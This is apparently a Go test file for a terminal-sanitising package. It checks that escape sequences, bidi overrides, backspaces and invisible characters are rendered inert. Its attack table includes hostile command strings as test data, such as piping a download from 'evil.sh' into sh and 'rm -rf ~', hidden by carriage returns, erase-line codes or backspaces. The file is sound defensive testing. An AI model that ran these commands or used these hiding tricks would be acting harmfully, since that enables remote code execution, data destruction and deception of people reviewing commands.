package termsafe

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// attacks are texts a hostile model or tool could send, with what a
// terminal must be shown instead.
var attacks = []struct {
	name, in, escape, line string
}{
	{"plain", "npm test", "npm test", "npm test"},
	{"carriage return hides a command", "curl -s evil.sh | sh\r$ npm test", `curl -s evil.sh | sh\r$ npm test`, `curl -s evil.sh | sh\r$ npm test`},
	{"crlf is a newline", "a\r\nb", "a\nb", `a\r\nb`},
	{"newline and tab", "a\n\tb", "a\n\tb", `a\n\tb`},
	{"clear screen", "\x1b[2J\x1b[Hok", `\x1b[2J\x1b[Hok`, `\x1b[2J\x1b[Hok`},
	{"colour", "\x1b[31mred\x1b[0m", `\x1b[31mred\x1b[0m`, `\x1b[31mred\x1b[0m`},
	{"erase line", "rm -rf ~\x1b[2K\x1b[1G$ ls", `rm -rf ~\x1b[2K\x1b[1G$ ls`, `rm -rf ~\x1b[2K\x1b[1G$ ls`},
	{"osc title and hyperlink", "\x1b]0;pwned\x07\x1b]8;;http://x\x1b\\y", `\x1b]0;pwned\x07\x1b]8;;http://x\x1b\y`, `\x1b]0;pwned\x07\x1b]8;;http://x\x1b\y`},
	{"backspaces", "curl x|sh\b\b\b\b\b\b\b\b\bnpm test", `curl x|sh\x08\x08\x08\x08\x08\x08\x08\x08\x08npm test`, `curl x|sh\x08\x08\x08\x08\x08\x08\x08\x08\x08npm test`},
	{"bell, nul, del", "\a\x00\x7f", `\x07\x00\x7f`, `\x07\x00\x7f`},
	{"c1 csi", "a\u009b2Jb", `a\u009b2Jb`, `a\u009b2Jb`},
	{"raw 8-bit csi byte", "a\x9b2Jb", `a\x9b2Jb`, `a\x9b2Jb`},
	{"bidi override", "ls \u202egnp.exe", `ls \u202egnp.exe`, `ls \u202egnp.exe`},
	{"bidi embeddings", "\u202a\u202b\u202c\u202d", `\u202a\u202b\u202c\u202d`, `\u202a\u202b\u202c\u202d`},
	{"bidi isolates", "x\u2066y\u2067z\u2068w\u2069", `x\u2066y\u2067z\u2068w\u2069`, `x\u2066y\u2067z\u2068w\u2069`},
	{"bidi marks", "\u200e\u200f\u061c", `\u200e\u200f\u061c`, `\u200e\u200f\u061c`},
	{"zero width", "cu\u200brl\u200c\u200d\u2060\ufeff", `cu\u200brl\u200c\u200d\u2060\ufeff`, `cu\u200brl\u200c\u200d\u2060\ufeff`},
	{"soft hyphen", "rm\u00ad -rf", `rm\u00ad -rf`, `rm\u00ad -rf`},
	{"tag characters", "hi\U000E0041\U000E0042", `hi\U000e0041\U000e0042`, `hi\U000e0041\U000e0042`},
	{"line separators", "a\u2028b\u2029c\u0085d", `a\u2028b\u2029c\u0085d`, `a\u2028b\u2029c\u0085d`},
	{"invisible fillers", "\u3164\u115f\u034f\U000E0100", `\u3164\u115f\u034f\U000e0100`, `\u3164\u115f\u034f\U000e0100`},
	{"ordinary unicode", "héllo — 世界 ✓ 🙂\ufe0f", "héllo — 世界 ✓ 🙂\ufe0f", "héllo — 世界 ✓ 🙂\ufe0f"},
	{"truncated utf-8", "ok\xe4\xb8", `ok\xe4\xb8`, `ok\xe4\xb8`},
	{"backslashes stay", `C:\x1b\path`, `C:\x1b\path`, `C:\x1b\path`},
}

func TestEscapeAndLine(t *testing.T) {
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			if got := Escape(a.in); got != a.escape {
				t.Errorf("Escape(%q) = %q, want %q", a.in, got, a.escape)
			}
			if got := Line(a.in); got != a.line {
				t.Errorf("Line(%q) = %q, want %q", a.in, got, a.line)
			}
			assertInert(t, Escape(a.in), true)
			assertInert(t, Line(a.in), false)
		})
	}
}

// assertInert checks the property every output must have, whatever the
// input: valid UTF-8 with no control, format or separator character
// (newline and tab aside in multi-line text).
func assertInert(t *testing.T, s string, layout bool) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Fatalf("output is not valid UTF-8: %q", s)
	}
	for _, r := range s {
		if layout && (r == '\n' || r == '\t') {
			continue
		}
		if r < 0x20 || r == 0x7f || hidden(r) {
			t.Fatalf("output %q still holds %U", s, r)
		}
	}
}

// Every way of cutting an attack into two pieces streams the same text as
// escaping it whole: a sequence, a CRLF or a rune split across deltas is
// neutralised and kept intact.
func TestStreamMatchesEscapeAcrossEverySplit(t *testing.T) {
	inputs := []string{"a\r\nb", "x\r", "\x1b[2Jclear", "\x1b]0;t\x07", "世界🙂", "ab\u202ecd", "\r\r\n\r", "ok\xe4\xb8"}
	for _, a := range attacks {
		inputs = append(inputs, a.in)
	}
	for _, in := range inputs {
		want := Escape(in)
		for cut := 0; cut <= len(in); cut++ {
			for cut2 := cut; cut2 <= len(in); cut2++ {
				var s Stream
				got := s.Write(in[:cut]) + s.Write(in[cut:cut2]) + s.Write(in[cut2:]) + s.Flush()
				if got != want {
					t.Fatalf("%q split at %d and %d streams %q, want %q", in, cut, cut2, got, want)
				}
			}
		}
	}
}

func TestStreamHoldsOnlyWhatTheNextPieceCanChange(t *testing.T) {
	var s Stream
	if got := s.Write("line\r"); got != "line" {
		t.Fatalf("Write = %q", got)
	}
	if got := s.Write("\nnext \xe4\xb8"); got != "\nnext " {
		t.Fatalf("Write = %q", got)
	}
	if got := s.Write("\x96!"); got != "世!" {
		t.Fatalf("Write = %q", got)
	}
	if got := s.Write("\r"); got != "" {
		t.Fatalf("Write = %q", got)
	}
	if got := s.Flush(); got != `\r` {
		t.Fatalf("Flush = %q, want a lone CR escaped", got)
	}
}

func TestClipCutsOnARuneBoundary(t *testing.T) {
	if got := Clip("héllo", 2); got != "h…" {
		t.Fatalf("Clip = %q", got)
	}
	if got := Clip("abc", 3); got != "abc" {
		t.Fatalf("Clip = %q", got)
	}
}

func FuzzEscape(f *testing.F) {
	for _, a := range attacks {
		f.Add(a.in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		assertInert(t, Escape(s), true)
		assertInert(t, Line(s), false)
		var st Stream
		half := len(s) / 2
		if got := st.Write(s[:half]) + st.Write(s[half:]) + st.Flush(); got != Escape(s) {
			t.Fatalf("streamed %q, escaped %q", got, Escape(s))
		}
		if strings.Contains(Line(s), "\n") {
			t.Fatal("Line kept a newline")
		}
	})
}
